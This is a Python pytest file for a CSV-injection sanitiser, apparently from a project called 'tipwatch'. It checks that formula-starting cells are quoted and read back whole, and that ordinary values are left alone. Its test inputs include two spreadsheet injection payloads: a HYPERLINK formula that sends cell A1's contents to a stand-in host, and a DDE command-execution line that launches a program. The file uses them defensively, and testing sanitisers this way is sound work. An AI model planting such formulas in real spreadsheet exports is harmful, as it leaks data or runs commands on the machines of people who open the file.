"""The one CSV-injection rule: cells a spreadsheet would run are quoted, and read back whole."""

from __future__ import annotations

import pytest

from tipwatch.formats.csv_safety import FORMULA_TRIGGERS, neutralise_cell, restore_cell


@pytest.mark.parametrize(
    "cell",
    [
        '=HYPERLINK("http://x.invalid/?"&A1,"open")',
        "+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
        "-",
        "'=1+1",  # already quoted once: one more quote, so it reads back as given
    ],
)
def test_formula_cells_are_quoted(cell: str) -> None:
    safe = neutralise_cell(cell)
    assert safe == "'" + cell
    assert restore_cell(safe) == cell


@pytest.mark.parametrize(
    "cell", ["", "r-1", "NL", "2020-03-01", "-3", "+1.5", "-0.25e-3", ".5", "'quoted", "a=b"]
)
def test_other_cells_are_kept(cell: str) -> None:
    assert neutralise_cell(cell) == cell
    assert restore_cell(cell) == cell


def test_every_trigger_is_covered() -> None:
    assert set(FORMULA_TRIGGERS) == {"=", "+", "-", "@", "\t", "\r"}
    for trigger in FORMULA_TRIGGERS:
        assert neutralise_cell(trigger + "x").startswith("'")
